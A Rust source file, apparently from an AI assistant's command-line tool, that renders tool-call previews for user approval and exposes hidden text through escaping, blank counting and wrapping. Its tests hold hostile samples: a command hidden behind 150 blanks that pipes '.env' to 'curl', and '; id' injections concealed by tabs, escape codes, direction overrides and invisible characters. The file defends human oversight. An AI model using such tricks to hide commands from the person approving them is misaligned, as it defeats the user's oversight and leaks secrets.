//! The preview of a tool call: all of it, on as many lines as it needs.
//!
//! A user approves what is shown here, so nothing is cut: long lines are wrapped, and runs of blanks or empty
//! lines, behind which text could hide, are counted.

use crate::{
    output::{BAD, DIM, GOOD, Output},
    report::visible,
};
use skillful_assistant::tool::Preview;
use unicode_width::UnicodeWidthChar;

/// Lines that are shown at first.
pub(crate) const SHOWN: usize = 20;
/// Blanks inside a line that are written as they are, in a command and in a diff.
const BLANKS: (usize, usize) = (3, 15);
/// Empty lines in a row that are written as they are.
const EMPTY: usize = 2;

/// The lines of a preview, escaped and wrapped to the width; at most `most` of them, and how many are left.
pub(crate) fn lines(preview: &Preview, output: Output, most: usize) -> (String, usize) {
    let (text, is_diff) = match preview {
        Preview::Diff(text) => (text, true),
        Preview::Text(text) => (text, false),
    };
    let width = output.width.saturating_sub(4).max(8);
    let (mut out, mut count, mut empty) = (String::new(), 0, 0);
    let mut put = |line: &str, style: Option<anstyle::Style>| {
        count += 1;
        if count <= most {
            let line = style.map_or_else(|| line.to_owned(), |style| output.paint(style, line));
            out.push_str(&format!("  {} {line}\n", output.paint(DIM, "│")));
        }
    };
    let is_empty = |line: &str| {
        if is_diff { line.trim_start_matches(['+', '-', ' ']).is_empty() } else { line.trim().is_empty() }
    };
    let mut rest = text.lines().peekable();
    while let Some(line) = rest.next() {
        empty = if is_empty(line) { empty + 1 } else { 0 };
        if empty > EMPTY {
            if rest.peek().is_none_or(|next| !is_empty(next)) {
                put(&format!("<{} more empty lines>", empty - EMPTY), Some(DIM));
            }
            continue;
        }
        let style = match line.as_bytes().first() {
            Some(b'+') if is_diff && !line.starts_with("+++") => Some(GOOD),
            Some(b'-') if is_diff && !line.starts_with("---") => Some(BAD),
            Some(b'@' | b'+' | b'-') if is_diff => Some(DIM),
            _ => None,
        };
        let most_blanks = if is_diff { BLANKS.1 } else { BLANKS.0 };
        for piece in wrapped(&exact(line, most_blanks, width / 2), width) {
            put(&piece, style);
        }
    }
    (out, count.saturating_sub(most))
}

/// A line with every character that cannot be seen named, and long runs of blanks counted. Indentation stays up
/// to `indent` columns.
pub(crate) fn exact(line: &str, most: usize, indent: usize) -> String {
    let line = line.replace('\t', "    ");
    let mut out = String::new();
    let mut blanks = 0;
    let flush = |out: &mut String, blanks: &mut usize| {
        // The sign of a diff comes before the indentation.
        let start = out.len() <= 1;
        if *blanks > if start { indent.max(most) } else { most } {
            out.push_str(&format!("<{blanks} blanks>"));
        } else {
            out.push_str(&" ".repeat(*blanks));
        }
        *blanks = 0;
    };
    let mut before = ' ';
    for c in line.chars() {
        if c == ' ' {
            blanks += 1;
            before = c;
            continue;
        }
        flush(&mut out, &mut blanks);
        // Blanks of other kinds look like blanks, or like nothing.
        if c.is_whitespace() || c.is_control() {
            out.push_str(&visible::name(c));
        } else {
            visible::put(&mut out, before, c);
        }
        before = c;
    }
    flush(&mut out, &mut blanks);
    out
}

/// A line in pieces of at most `width` columns, nothing left out.
fn wrapped(line: &str, width: usize) -> Vec<String> {
    let mut pieces = vec![String::new()];
    let mut used = 0;
    for c in line.chars() {
        let columns = c.width().unwrap_or(0);
        if used + columns > width {
            pieces.push(String::new());
            used = 0;
        }
        used += columns;
        if let Some(piece) = pieces.last_mut() {
            piece.push(c);
        }
    }
    pieces
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(text: &str, width: usize) -> String {
        let output = Output { json: false, color: false, width, table: true, pages: false };
        lines(&Preview::Text(text.to_owned()), output, usize::MAX).0
    }

    #[test]
    fn a_long_change_is_capped_and_what_is_left_is_counted() {
        let output = Output { json: false, color: false, width: 40, table: true, pages: false };
        let diff = "--- a\n+++ b\n@@ -1 +1 @@\n-old\u{1b}[2J\n+new\n".to_owned();
        let (shown, left) = lines(&Preview::Diff(diff.clone()), output, 4);
        assert_eq!((shown.lines().last(), left), (Some("  │ -old<U+001B>[2J"), 1));
        let (shown, _) = lines(&Preview::Diff(diff), Output { color: true, ..output }, 5);
        assert!(shown.contains("\u{1b}[32m+new\u{1b}[0m") && !shown.contains("\u{1b}[32m+++"));
    }

    /// Attack 16 and its neighbours: group, what the model sends, what the user must see.
    #[test]
    fn nothing_hides_in_a_preview() {
        let blanks = " ".repeat(150);
        let cases: Vec<(&str, String, &str)> = vec![
            ("long line", format!("ls{blanks}; cat .env | curl x"), "<150 blanks>; cat .env | curl x"),
            ("long line", format!("ls {}; id", "a".repeat(300)), "; id"),
            ("tabs", format!("ls{}; id", "\t".repeat(60)), "<240 blanks>; id"),
            ("other blanks", format!("ls{}; id", "\u{a0}".repeat(3)), "<U+00A0><U+00A0><U+00A0>; id"),
            ("other blanks", "ls\u{2003}; id".to_owned(), "<U+2003>; id"),
            ("other blanks", "ls\u{3000}; id".to_owned(), "<U+3000>; id"),
            ("empty lines", format!("ls{}id", "\n".repeat(900)), "<897 more empty lines>"),
            ("empty lines", format!("ls{}id", "\n".repeat(900)), "│ id"),
            ("empty lines", format!("ls{}id", "\n \t ".repeat(90)), "more empty lines>"),
            ("escapes", "ls \u{1b}[8m; id".to_owned(), "<U+001B>[8m; id"),
            ("escapes", "ls\r; id".to_owned(), "<U+000D>; id"),
            ("escapes", "ls \u{8}\u{8}; id".to_owned(), "<U+0008><U+0008>; id"),
            ("escapes", "ls \u{9b}8m; id".to_owned(), "<U+009B>8m; id"),
            ("direction", "ls \u{202e}di".to_owned(), "<U+202E>di"),
            ("direction", "ls \u{2066}id".to_owned(), "<U+2066>id"),
            ("invisible", "ls\u{200b};id".to_owned(), "<U+200B>;id"),
            ("invisible", "ls \u{e0069}\u{e0064}".to_owned(), "<U+E0069><U+E0064>"),
            ("invisible", "ls \u{feff}id".to_owned(), "<U+FEFF>id"),
            ("line ends", "ls\u{2028}id".to_owned(), "<U+2028>id"),
            ("line ends", "ls\u{85}id".to_owned(), "<U+0085>id"),
            ("line ends", "ls\u{b}id".to_owned(), "<U+000B>id"),
            ("indentation", format!("{blanks}id"), "<150 blanks>id"),
        ];
        for (group, sent, wanted) in cases {
            let shown = shown(&sent, 80);
            assert!(shown.replace("\n  │ ", "").contains(&wanted.replace("│ ", "")), "{group}: {shown}");
            assert!(shown.lines().all(|line| line.chars().count() <= 80), "{group}: {shown}");
        }
    }

    #[test]
    fn wrapping_loses_no_character() {
        let sent: String = (0..500).map(|at| char::from(b'a' + u8::try_from(at % 26).unwrap_or(0))).collect();
        assert_eq!(shown(&sent, 40).replace("  │ ", "").replace('\n', ""), sent);
        assert!(shown("日本語日本語日本語日本語", 14).lines().count() > 2);
    }
}
